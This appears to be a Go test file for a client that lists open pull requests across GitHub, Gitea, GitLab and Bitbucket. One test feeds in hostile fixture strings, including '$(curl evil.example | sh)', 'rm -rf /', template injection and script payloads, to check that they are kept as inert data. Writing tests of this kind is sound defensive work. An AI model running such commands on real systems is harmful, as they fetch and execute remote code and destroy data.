package forge

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t.UTC()
}

// Each forge's answer, as its API writes it, becomes the same pull requests: sorted,
// forks and drafts told, labels sorted, those without a number or a head commit skipped.
func TestOpenPullRequestsReadsEachForge(t *testing.T) {
	for _, tc := range []struct {
		kind  Kind
		repo  string
		path  string
		query url.Values
		file  string
		want  []PullRequest
	}{{
		kind: GitHub, repo: "octo/shop", path: "/repos/octo/shop/pulls",
		query: url.Values{"state": {"open"}, "per_page": {"100"}, "page": {"1"}},
		file:  "github_pulls.json",
		want: []PullRequest{
			{Number: 12, Title: "Add login page", URL: "https://github.com/octo/shop/pull/12", Author: "alice", AuthorID: "1001",
				HeadBranch: "feature/login", HeadSHA: "abcdefabcdefabcdefabcdefabcdefabcdefabcd", BaseBranch: "main",
				HeadRef: "refs/pull/12/head", Labels: []string{"area/api", "preview"}, UpdatedAt: at("2024-05-01T10:00:00Z")},
			{Number: 13, Title: "From a deleted fork", URL: "https://github.com/octo/shop/pull/13",
				HeadBranch: "old", HeadSHA: "2222222222222222222222222222222222222222", BaseBranch: "main",
				HeadRef: "refs/pull/13/head", Fork: true, UpdatedAt: at("2024-04-30T07:00:00Z")},
			{Number: 14, Title: "WIP: new checkout", URL: "https://github.com/octo/shop/pull/14", Author: "bob", AuthorID: "1002",
				HeadBranch: "checkout", HeadSHA: "1111111111111111111111111111111111111111", BaseBranch: "main",
				HeadRef: "refs/pull/14/head", Labels: []string{"preview"}, Draft: true, UpdatedAt: at("2024-05-01T12:00:00Z")},
			{Number: 15, Title: "Fix typo in README", URL: "https://github.com/octo/shop/pull/15", Author: "mallory", AuthorID: "2002",
				HeadBranch: "patch-1", HeadSHA: "0123456789abcdef0123456789abcdef01234567", BaseBranch: "main",
				HeadRef: "refs/pull/15/head", Fork: true, UpdatedAt: at("2024-05-02T09:30:00Z")},
		},
	}, {
		kind: Gitea, repo: "octo/shop", path: "/api/v1/repos/octo/shop/pulls",
		query: url.Values{"state": {"open"}, "limit": {"50"}, "page": {"1"}},
		file:  "gitea_pulls.json",
		want: []PullRequest{
			{Number: 8, Title: "Add login page", URL: "https://gitea.example/octo/shop/pulls/8", Author: "alice", AuthorID: "7",
				HeadBranch: "feature/login", HeadSHA: "abcdefabcdefabcdefabcdefabcdefabcdefabcd", BaseBranch: "main",
				HeadRef: "refs/pull/8/head", Labels: []string{"kind/feature", "preview"}, UpdatedAt: at("2024-05-01T10:00:00Z")},
			{Number: 9, Title: "Fork change", URL: "https://gitea.example/octo/shop/pulls/9", Author: "mallory", AuthorID: "9",
				HeadBranch: "patch", HeadSHA: "0123456789abcdef0123456789abcdef01234567", BaseBranch: "main",
				HeadRef: "refs/pull/9/head", Draft: true, Fork: true, UpdatedAt: at("2024-05-02T09:00:00Z")},
		},
	}, {
		kind: GitLab, repo: "group/sub/shop", path: "/api/v4/projects/group%2Fsub%2Fshop/merge_requests",
		query: url.Values{"state": {"opened"}, "per_page": {"100"}, "page": {"1"}},
		file:  "gitlab_merge_requests.json",
		want: []PullRequest{
			{Number: 7, Title: "Add login page", URL: "https://gitlab.example/group/sub/shop/-/merge_requests/7", Author: "alice", AuthorID: "11",
				HeadBranch: "feature/login", HeadSHA: "abcdefabcdefabcdefabcdefabcdefabcdefabcd", BaseBranch: "main",
				HeadRef: "refs/merge-requests/7/head", Labels: []string{"backend", "preview"}, UpdatedAt: at("2024-05-01T10:00:00.123Z")},
			{Number: 8, Title: "Draft: checkout", URL: "https://gitlab.example/group/sub/shop/-/merge_requests/8", Author: "bob", AuthorID: "12",
				HeadBranch: "checkout", HeadSHA: "1111111111111111111111111111111111111111", BaseBranch: "main",
				HeadRef: "refs/merge-requests/8/head", Draft: true, UpdatedAt: at("2024-05-01T11:00:00Z")},
			{Number: 9, Title: "Fork change", URL: "https://gitlab.example/group/sub/shop/-/merge_requests/9", Author: "mallory", AuthorID: "66",
				HeadBranch: "main", HeadSHA: "0123456789abcdef0123456789abcdef01234567", BaseBranch: "main",
				HeadRef: "refs/merge-requests/9/head", Labels: []string{"preview"}, Draft: true, Fork: true, UpdatedAt: at("2024-05-02T09:00:00Z")},
		},
	}, {
		kind: Bitbucket, repo: "ws/shop", path: "/2.0/repositories/ws/shop/pullrequests",
		query: url.Values{"state": {"OPEN"}, "pagelen": {"50"}},
		file:  "bitbucket_pullrequests.json",
		want: []PullRequest{
			{Number: 3, Title: "Add login page", URL: "https://bitbucket.org/ws/shop/pull-requests/3", Author: "alice",
				AuthorID: "{1a2b3c4d-0000-4000-8000-000000000001}", HeadBranch: "feature/login", HeadSHA: "abcdef012345",
				BaseBranch: "main", HeadRef: "refs/heads/feature/login", UpdatedAt: at("2024-05-01T10:00:00.123456Z")},
			{Number: 4, Title: "Fork change", URL: "https://bitbucket.org/ws/shop/pull-requests/4", Author: "Mallory",
				AuthorID: "{1a2b3c4d-0000-4000-8000-000000000066}", HeadBranch: "patch", HeadSHA: "0123456789ab",
				BaseBranch: "main", Fork: true, UpdatedAt: at("2024-05-02T09:00:00Z")},
			{Number: 5, Title: "Draft checkout", URL: "https://bitbucket.org/ws/shop/pull-requests/5", Author: "bob",
				AuthorID: "{1a2b3c4d-0000-4000-8000-000000000002}", HeadBranch: "checkout", HeadSHA: "111111111111",
				BaseBranch: "main", HeadRef: "refs/heads/checkout", Draft: true, UpdatedAt: at("2024-05-01T11:00:00Z")},
		},
	}} {
		t.Run(string(tc.kind), func(t *testing.T) {
			f := newFake(t, tc.kind, testToken, exchange{method: http.MethodGet, path: tc.path, query: tc.query,
				answer: readTestdata(t, tc.file)})
			got, truncated, err := f.client(tc.repo).OpenPullRequests(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			if truncated {
				t.Error("truncated")
			}
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("got\n%+v\nwant\n%+v", got, tc.want)
			}
		})
	}
}

// Pages are followed until one is short (or has no next link), and each listing stops at
// the cap or the page limit, saying so.
func TestOpenPullRequestsPages(t *testing.T) {
	for _, fx := range fixtures {
		n := fx.pageSize
		for _, tc := range []struct {
			name      string
			cap       int
			pages     int
			script    []exchange
			want      int // pull requests
			first     int // the lowest number
			truncated bool
		}{{
			name: "two pages", cap: MaxPullRequests, pages: 50,
			script: []exchange{fx.pullsPage(1, fx.pulls(1000, n), false), fx.pullsPage(2, fx.pulls(10, 3), true)},
			want:   n + 3, first: 10,
		}, {
			name: "a pull request on two pages counts once", cap: MaxPullRequests, pages: 50,
			script: []exchange{fx.pullsPage(1, fx.pulls(1000, n), false), fx.pullsPage(2, fx.pulls(1000+n-1, 2), true)},
			want:   n + 1, first: 1000,
		}, {
			name: "beyond the cap", cap: n + n/2, pages: 50,
			script: []exchange{fx.pullsPage(1, fx.pulls(1000, n), false), fx.pullsPage(2, fx.pulls(10, n), false)},
			want:   n + n/2, first: 10, truncated: true,
		}, {
			name: "exactly the cap", cap: n, pages: 50,
			script: []exchange{fx.pullsPage(1, fx.pulls(1000, n), false), fx.pullsPage(2, nil, true)},
			want:   n, first: 1000,
		}, {
			name: "the page limit", cap: MaxPullRequests, pages: 2,
			script: []exchange{fx.pullsPage(1, fx.pulls(1000, n), false), fx.pullsPage(2, fx.pulls(10, n), false)},
			want:   2 * n, first: 10, truncated: true,
		}} {
			t.Run(string(fx.kind)+"/"+tc.name, func(t *testing.T) {
				setVar(t, &maxPullRequests, tc.cap)
				setVar(t, &maxPages, tc.pages)
				f := newFake(t, fx.kind, testToken, tc.script...)
				got, truncated, err := f.client(fx.repo).OpenPullRequests(context.Background())
				if err != nil {
					t.Fatal(err)
				}
				if len(got) != tc.want || truncated != tc.truncated {
					t.Fatalf("%d pull requests, truncated %v; want %d, %v", len(got), truncated, tc.want, tc.truncated)
				}
				if got[0].Number != tc.first {
					t.Errorf("first %d, want %d", got[0].Number, tc.first)
				}
				for i := 1; i < len(got); i++ {
					if got[i-1].Number >= got[i].Number {
						t.Fatalf("not sorted at %d: %d, %d", i, got[i-1].Number, got[i].Number)
					}
				}
			})
		}
	}
}

// Without a token, no credential header is sent; a GitHub Enterprise base keeps its
// path.
func TestOpenPullRequestsAnonymousOnEnterprise(t *testing.T) {
	f := newFake(t, GitHub, "", exchange{method: http.MethodGet, path: "/api/v3/repos/octo/shop/pulls",
		query: url.Values{"state": {"open"}, "per_page": {"100"}, "page": {"1"}}, answer: `[]`})
	c, err := New(GitHub, f.srv.URL+"/api/v3/", "octo/shop", "", f.srv.Client())
	if err != nil {
		t.Fatal(err)
	}
	got, truncated, err := c.OpenPullRequests(context.Background())
	if err != nil || truncated || len(got) != 0 {
		t.Fatalf("%v %v %v", got, truncated, err)
	}
}

// Titles, branches and labels holding template syntax, shell characters or newlines come
// back as they are, the title cut to 1 KiB; a web URL that is no http(s) URL is dropped,
// over-long labels too, and a pull request with an over-long branch is skipped.
func TestOpenPullRequestsHostileStringsAreData(t *testing.T) {
	hostile := "{{ .Values.secret }} $(curl evil.example | sh) `id`; rm -rf / \n\r\t\x00 <script>alert(1)</script>"
	title := hostile + strings.Repeat("é", 2000)
	branch := "{{ template \"x\" }};$(id)|`x`\nnext"
	label := "{{ .x }} && reboot"
	items := []map[string]any{
		{"number": 1, "title": title, "html_url": "javascript:alert(1)",
			"user":   map[string]any{"login": "{{ .user }}", "id": 1},
			"labels": []map[string]any{{"name": label}, {"name": strings.Repeat("l", 2000)}, {"name": "ok"}, {"name": "ok"}},
			"head":   map[string]any{"ref": branch, "sha": sha(1), "repo": map[string]any{"full_name": "octo/shop"}},
			"base":   map[string]any{"ref": "main\n$(x)", "repo": map[string]any{"full_name": "octo/shop"}}},
		{"number": 2, "title": "long branch",
			"head": map[string]any{"ref": strings.Repeat("b", 2000), "sha": sha(2), "repo": map[string]any{"full_name": "octo/shop"}},
			"base": map[string]any{"ref": "main", "repo": map[string]any{"full_name": "octo/shop"}}},
	}
	f := newFake(t, GitHub, testToken, exchange{method: http.MethodGet, path: "/repos/octo/shop/pulls",
		query: url.Values{"state": {"open"}, "per_page": {"100"}, "page": {"1"}}, answer: mustJSON(items)})
	got, _, err := f.client("octo/shop").OpenPullRequests(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 {
		t.Fatalf("got %d pull requests, want 1 (the long branch skipped)", len(got))
	}
	pr := got[0]
	if len(pr.Title) > 1024 || len(pr.Title) < 1023 || !strings.HasPrefix(title, pr.Title) || !utf8.ValidString(pr.Title) {
		t.Errorf("title of %d bytes, not the first KiB of the title", len(pr.Title))
	}
	if pr.HeadBranch != branch || pr.BaseBranch != "main\n$(x)" || pr.Author != "{{ .user }}" {
		t.Errorf("strings changed: %q %q %q", pr.HeadBranch, pr.BaseBranch, pr.Author)
	}
	if want := []string{"ok", label}; !reflect.DeepEqual(pr.Labels, want) {
		t.Errorf("labels %q, want %q", pr.Labels, want)
	}
	if pr.URL != "" {
		t.Errorf("URL %q kept", pr.URL)
	}
}

// A page of the wrong shape or with a field of the wrong type is an error, not a panic
// nor a pull request.
func TestOpenPullRequestsMalformedAnswers(t *testing.T) {
	for _, tc := range []struct {
		kind   Kind
		answer string
	}{
		{GitHub, `{"message": "not a list"}`},
		{GitHub, `[{"number": "12"}]`},
		{GitHub, `[{"number": 12, "user": "alice"}]`},
		{GitHub, `[{"number": 12, "user": {"id": 1.5}}]`},
		{GitHub, `[{"number": 12, "labels": "preview"}]`},
		{GitHub, `[{"number": 99999999999999999999999}]`},
		{GitHub, `[{"number": 12,`},
		{Gitea, `[{"number": 1, "head": []}]`},
		{GitLab, `[{"iid": 1, "labels": [{"name": "preview"}]}]`},
		{GitLab, `[{"iid": 1, "source_project_id": "42"}]`},
		{Bitbucket, `{"values": {"id": 1}}`},
		{Bitbucket, `{"values": [], "next": 2}`},
		{Bitbucket, `[]`},
	} {
		t.Run(fmt.Sprint(tc.kind, " ", tc.answer), func(t *testing.T) {
			fx := fixtureOf(tc.kind)
			f := newFake(t, tc.kind, testToken, exchange{method: http.MethodGet, path: fx.pullsPath, query: fx.pullsQuery(1), answer: tc.answer})
			got, _, err := f.client(fx.repo).OpenPullRequests(context.Background())
			if err == nil || !strings.Contains(err.Error(), "malformed answer from "+string(tc.kind)) {
				t.Fatalf("got %v, %v; want a malformed answer", got, err)
			}
		})
	}
}
